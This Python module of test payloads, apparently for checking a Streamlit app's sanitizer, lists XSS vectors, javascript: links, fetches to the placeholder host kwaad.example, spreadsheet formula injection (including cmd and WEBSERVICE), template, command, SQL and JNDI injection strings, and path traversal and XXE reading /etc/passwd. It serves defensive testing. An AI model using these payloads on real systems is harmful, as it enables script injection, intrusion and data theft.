r"""Texts that would do something where they are not taken for text; what is run sets `ran`, what is fetched is EVIL.

By kind, so that a control can prove per kind that a text does harm where nobody stops it.
"""

GO = "ran=1"
EVIL = "kwaad.example"
AWAY = f"//{EVIL}/x"
IMG = f"<img src=x:x onerror={GO}>"

SCRIPTS = (
    *(
        f"<{name}>{GO}</{name}>"
        for name in ("script", "SCRIPT", "ScRiPt", "script ", "script/x", "script\n", "script\t")
    ),
    f'<script type="text/javascript">{GO}</script>',
    f"<script>{GO}//</script>",
    f"<script><!--\n{GO}</script>",
    f"<svg><script>{GO}</script></svg>",
    "<svg><script>ran&#61;1</script></svg>",
    f"<div><script>{GO}</script></div>",
    f"<!--><script>{GO}</script>-->",
    f"<x><script>{GO}</script>",
)
# A tag with its event, as it is written in the usual ways.
BY_THEMSELVES = (
    *(f"<img src=x:x onerror={quote}{GO}{quote}>" for quote in ("", "'", '"')),
    *(f"<{tag} src=x:x onerror={GO}>" for tag in ("IMG", "iMg", "image", "video", "audio")),
    *(f"<img{gap}src=x:x{gap}onerror={GO}>" for gap in ("\t", "\n", "\f")),
    *(f"<img src=x:x onerror{sign}{GO}>" for sign in (" =", "= ", "\n=\n")),
    "<img src=x:x onerror=&#114;an=1>",
    "<img src=x:x onerror=&#x72;an=1>",
    "<img src=x:x onerror=ran&equals;1>",
    "<img src=x:x onerror=\\u0072an=1>",
    "<img src=x:x onerror=eval('ran\\x3d1')>",
    "<img src=x:x onerror=self['r'+'an']=1>",
    f"<img src=x:x onerror={GO} ",
    f"<img src=x:x onerror={GO}//",
    f"<<img src=x:x onerror={GO}>>",
    f'<img """>{IMG}">',
    f"<video><source onerror={GO} src=x:x></video>",
    f"<svg onload={GO}>",
    f"<svg/onload={GO}>",
    f"<body onload={GO}>",
    f"<body onpageshow={GO}>",
    f"<iframe onload={GO}></iframe>",
    f"<style onload={GO}></style>",
    f"<details open ontoggle={GO}>x</details>",
    f"<svg><set onbegin={GO} attributeName=x>",
    f"<svg><animate onbegin={GO} attributeName=x dur=1s>",
)
EVENTS = (
    *("click", "dblclick", "mouseover", "mousemove", "mousedown", "pointerenter", "pointerdown", "focus", "blur"),
    *("keydown", "keypress", "input", "copy", "paste", "drag", "drop", "wheel", "scroll", "touchstart", "contextmenu"),
)
TOUCHED = (
    *(f"<{tag} on{event}={GO}>x</{tag}>" for tag in ("b", "a", "p") for event in EVENTS),
    *(f"<{tag} autofocus onfocus={GO}>" for tag in ("input", "select", "textarea", "button")),
    f"<div contenteditable oninput={GO}>x</div>",
    f"<form onsubmit={GO}><button>x</button></form>",
    f"<x tabindex=1 onfocus={GO} id=x>",
    f"<marquee onstart={GO}>x</marquee>",
    f"<div popover id=p onbeforetoggle={GO}>x</div>",
    f"<a onclick={GO} href=#>x</a>",
)
ENDS = (
    *(
        '">',
        "'>",
        "`>",
        ">",
        "</p>",
        "</li>",
        "</dd></dl>",
        "</td></tr></table>",
        "</textarea>",
        "</title>",
        "</style>",
    ),
    *("</script>", "-->", "]]>", "</h3>", "</summary></details>", "</option></select>", "</iframe>", "</noscript>"),
)
OUT_OF_A_PLACE = tuple(f"{end}{IMG}" for end in ENDS)
OUT_OF_AN_ATTRIBUTE = (
    f'" onmouseover="{GO}',
    f"' onmouseover='{GO}",
    f'" autofocus onfocus={GO} x="',
    f"' autofocus onfocus={GO} x='",
    f'x" style="background:url({AWAY})',
    f"{GO}\" onerror='{GO}'",
    f"javascript:{GO}",
    f"JaVaScRiPt:{GO}",
    f" javascript:{GO}",
    f"data:text/html,<script>{GO}</script>",
    f"vbscript:{GO}",
)
SCHEMES = (
    *("javascript:", "JAVASCRIPT:", "java\tscript:", "java\nscript:", "java&#9;script:", "java&NewLine;script:"),
    *(
        " javascript:",
        "&#1;javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "javascript://%0A",
    ),
)
LINKS = (
    *(f'<a href="{scheme}{GO}">x</a>' for scheme in SCHEMES),
    f"<form action=javascript:{GO}><button>x</button></form>",
    f"<form><button formaction=javascript:{GO}>x</button></form>",
    f"<form><input type=submit formaction=javascript:{GO}></form>",
    f"<svg><a href=javascript:{GO}><text y=9>x</text></a></svg>",
    f"<svg><a xlink:href=javascript:{GO}><text y=9>x</text></a></svg>",
    f"<math href=javascript:{GO}>x</math>",
    f"<iframe src=javascript:{GO}></iframe>",
    f'<iframe srcdoc="<script>top.{GO}</script>"></iframe>',
    f"<iframe srcdoc='&lt;script&gt;top.{GO}&lt;/script&gt;'></iframe>",
    f"<object data=javascript:{GO}></object>",
    f"<embed src=javascript:{GO}>",
    f"<area href=javascript:{GO}>",
    f"<base href=javascript:{GO}//>",
    f"<meta http-equiv=refresh content=0;url=javascript:{GO}>",
)
FETCHES = (
    f"<script src={AWAY}></script>",
    f"<img src={AWAY}>",
    f"<img srcset={AWAY}>",
    f"<input type=image src={AWAY}>",
    f"<video poster={AWAY}></video>",
    f"<video src={AWAY}></video>",
    f"<audio src={AWAY}></audio>",
    f"<iframe src={AWAY}></iframe>",
    f"<embed src={AWAY}>",
    f"<object data={AWAY}></object>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<link rel=icon href={AWAY}>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    f"<p style=background:url({AWAY})>x</p>",
    f"<table background={AWAY}><tr><td>x</table>",
    f"<body background={AWAY}>",
    f"<svg><image href={AWAY} /></svg>",
    f"<svg><use href={AWAY}#x /></svg>",
    f"<meta http-equiv=refresh content=0;url={AWAY}>",
    f"<form action={AWAY}><input name=x><button>x</button></form>",
    f"<base href={AWAY}/>",
    f"<a href={AWAY} ping={AWAY}>x</a>",
)
OLD_TRICKS = (
    f"<script>{GO}",
    f"<script src=x:x onerror={GO}>",
    f"<img/src=x:x/onerror={GO}>",
    f"<svg><g onload={GO}></g></svg>",
    f"<object data=x:x onerror={GO}></object>",
    f"<p style=width:expression({GO})>x</p>",
    f"<p style=-moz-binding:url({AWAY})>x</p>",
    f"<xml id=x><x><![CDATA[{IMG}]]></x></xml>",
    f"<scr<script>ipt>{GO}</scr</script>ipt>",
    f"<noscript><p title='</noscript>{IMG}'>",
    f"<math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<template>{IMG}</template>",
    "<plaintext>",
    "<dialog open><h1>Je sessie is verlopen</h1></dialog>",
    "<div style=position:fixed;inset:0>weg</div>",
    "<h1>Ander kopje</h1>",
    "<b>vet</b> <u>lijn</u> <br> <hr>",
    "<a name=top id=root>x</a>",
    "<!-- weg -->",
    "<! weg >",
    "<?xml version='1.0'?><x/>",
    "<![CDATA[x]]>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    '<!--#exec cmd="id" -->',
    "<?php ran() ?>",
    "<",
    "<a",
    "</",
    "<b <b <b",
    "&",
    "&lt",
    '"',
    "'",
    "`",
)
MARKDOWN = (
    *(
        f"[x]({scheme}{GO})"
        for scheme in ("javascript:", "JaVaScRiPt:", "vbscript:", "data:text/html,", "javascript&#58;")
    ),
    f"[x](http:{AWAY})",
    f"[x]({AWAY})",
    f"![x](http:{AWAY})",
    f"![x]({AWAY})",
    f"![x](data:image/svg+xml,<svg onload={GO}>)",
    f"![x][y]\n\n[y]: http:{AWAY}",
    f"[![x](http:{AWAY})](javascript:{GO})",
    f"<http:{AWAY}>",
    f"<javascript:{GO}>",
    f"http:{AWAY}/kaal",
    f"[x]: javascript:{GO}",
    *("**vet**", "__vet__", "*schuin*", "_schuin_", "~~weg~~", "`code`", "***", "# Kop", "###### Kop", "Kop\n==="),
    *("- punt", "* punt", "+ punt", "1. punt", "> aangehaald", "---", "    code", "```\ncode\n```", "\\*geen\\*"),
    *(
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[^1]\n\n[^1]: noot",
        "- [ ] taak",
        "regel  \nregel",
        "a\n\nb",
        "&copy; &#42;",
    ),
)
STREAMLIT = (
    *(":material/home:", ":streamlit:", ":smile:", ":+1:", ":red[rood]", ":blue-background[x]", ":green-badge[x]"),
    *(":rainbow[x]", ":small[x]", ":gray-badge[:material/delete: x]", ":violet[**x**]", ":primary[x]", ":shortcode[x]"),
    *("<- -> <-> -- >= <= ~=", ":material/../x:", f":red[{IMG}]", f":blue[![x](http:{AWAY})]", ":nl: :flag-nl:"),
)
FORMULAS = (
    *(
        "$x^2$",
        "$$\\frac{1}{2}$$",
        "\\(x\\)",
        "\\[x\\]",
        "kost $5 of $10",
        "$\\def\\a{\\a\\a}\\a$",
        "$\\rule{9em}{9em}$",
    ),
    f"$\\href{{javascript:{GO}}}{{x}}$",
    f"$\\url{{javascript:{GO}}}$",
    f"$\\includegraphics{{http:{AWAY}}}$",
    f"$\\htmlStyle{{background:url({AWAY})}}{{x}}$",
    "$\\htmlData{x=y}{z}$",
    "$\\text{</span><b>x}$",
)
TEMPLATES = (
    *("{}", "{0}", "{1}", "{name}", "{0.__class__}", "{title}", "{companion}", "{", "}", "{{", "{{0}}", "%s", "%(x)s"),
    *("%", "%d%n", f"${{{GO}}}", f"{{{{{GO}}}}}", "{{7*7}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}", "[[7*7]]", "*{7*7}"),
    f"{{{{constructor.constructor('{GO}')()}}}}",
    *("__proto__", "constructor", "toString", "null", "undefined", "NaN", "true", "0", "[object Object]", "None"),
    *("${jndi:ldap://kwaad.example/x}", "$(id)", "`id`", "; id", "| id", "&& id", "../../../etc/passwd", "file:///etc"),
    *("'; DROP TABLE entries; --", "' OR '1'='1", '"}],"x":{"', "*)(uid=*))(|(uid=*", "\\", "\\\\", "\\n", "\\0", "//"),
)
TYPST = (
    *('#eval("1+1")', "#include", '#include "/etc/passwd"', '#read("/etc/passwd")', "#pagebreak()", "#let x = 1", "#x"),
    *('#import "@preview/x:0.1.0"', f'#image("http:{AWAY}")', f'#link("javascript:{GO}")[x]', "#sys.inputs", "#[x]"),
    *("#while true {}", "@bron", "<label>", "= Kop", "/ woord: zin", "$ x $", "*ster* _laag_", "// weg", "/* weg */"),
    *("\\u{41}", "#", "#{", "]", "[", "~", "--- -- ...", "#panic()", "#set page(width: 1pt)", "#show: none"),
)
SHEETS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", " =1+1", "\u00a0=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\u22121"),
    *(
        "=cmd|' /C calc'!A0",
        "=DDE('x';'y';'z')",
        "@x",
        "=",
        "+",
        "-",
        "@",
        ";=1+1",
        '";=1+1',
        '",=1+1',
        "'=1+1",
        "\n=1",
    ),
    f'=HYPERLINK("http:{AWAY}";"klik")',
    f'=WEBSERVICE("http:{AWAY}")',
    f'=IMPORTXML("http:{AWAY}";"//a")',
    f'=IMAGE("http:{AWAY}")',
)
SIGNS = (
    f"\u202e{IMG}",
    "\u202eomgekeerd\u202c",
    f"\u2066{IMG}\u2069",
    f"\u200b{IMG}",
    f"<scr\u200bipt>{GO}</script>",
    f"\ufeff<script>{GO}</script>",
    f"\uff1cscript\uff1e{GO}\uff1c/script\uff1e",
    f"\u2039script\u203a{GO}\u2039/script\u203a",
    f"<\u017fcript>{GO}</\u017fcript>",
    f"<\u0131mg src=x:x onerror={GO}>",
    f"<img src=x:x on\u0435rror={GO}>",
    f"\u2028{IMG}",
    f"\u0085{IMG}",
    f"\u00ad{IMG}",
    f"\\u003cimg src=x:x onerror={GO}\\u003e",
    f"\\x3cscript\\x3e{GO}\\x3c/script\\x3e",
    f"&lt;script&gt;{GO}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{GO}",
    f"&#60;script&#62;{GO}",
    f"&#x3C;script&#x3E;{GO}",
    f"&#0000060script&#0000062{GO}",
    f"%3Cscript%3E{GO}%3C/script%3E",
    f"%253Cscript%253E{GO}",
    f"+ADw-script+AD4-{GO}",
    *(
        "\u0130\u0049\u0307",
        "e\u0301\u0301\u0301\u0301\u0301",
        "\U0001f469\u200d\u2695\ufe0f",
        "\u05e9\u05dc\u05d5\u05dd",
        "\u4f60\u597d",
        "\ufdfa",
    ),
    *(
        "\u0627\u0644\u0633\u0644\u0627\u0645",
        "\u0645\u200c\u062f",
        "\ufffd",
        "\ufffe",
        "\u0000.",
        "\x1b[2J",
        "\x08\x7f",
        "a\tb",
        "\U000e0041",
    ),
)
# What our own script translates where Streamlit says it, and what every object has of itself.
WORDS = ("Open", "Close", "Sidebar", "No results", "3 options available.", "hasOwnProperty", "valueOf")
POLYGLOTS = (
    f"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{GO}//'>",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={GO} )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>{IMG}",
    f"'\">{IMG}{{{{{GO}}}}}${{{GO}}}[x](javascript:{GO})",
    f'"\'`--></style></script>{IMG}=1+1#eval("1")$x$:red[x]',
    f"=1+1<script>{GO}</script>**x** :smile: $x$ {{0}} %s #x \u202e",
)

HARM: dict[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "events by themselves": BY_THEMSELVES,
    "events on a touch": TOUCHED,
    "out of a place": OUT_OF_A_PLACE,
    "links": LINKS,
    "fetches": FETCHES,
}
READ_DIFFERENTLY: dict[str, tuple[str, ...]] = {
    "out of an attribute": OUT_OF_AN_ATTRIBUTE,
    "old tricks": OLD_TRICKS,
    "markdown": MARKDOWN,
    "streamlit": STREAMLIT,
    "formulas": FORMULAS,
    "templates": TEMPLATES,
    "typst": TYPST,
    "sheets": SHEETS,
    "signs": SIGNS,
    "words": WORDS,
    "polyglots": POLYGLOTS,
}
KINDS = {**HARM, **READ_DIFFERENTLY}
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(one for kind in KINDS.values() for one in kind))
